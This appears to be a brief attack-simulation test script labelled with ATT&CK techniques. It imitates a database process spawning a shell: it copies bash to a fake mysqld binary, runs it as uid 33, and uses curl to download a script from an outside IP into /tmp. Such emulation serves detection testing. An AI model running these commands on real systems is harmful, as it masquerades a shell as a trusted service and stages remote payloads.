# title: A database starts a shell, as functions of users can make it
# technique: T1190 T1059.004
# needs: bash

cp /bin/bash /usr/local/sbin/mysqld
setpriv --reuid 33 --regid 33 --clear-groups /usr/local/sbin/mysqld -c 'sh -c "whoami; curl -s http://192.88.99.7/x.sh >/tmp/p"; :'
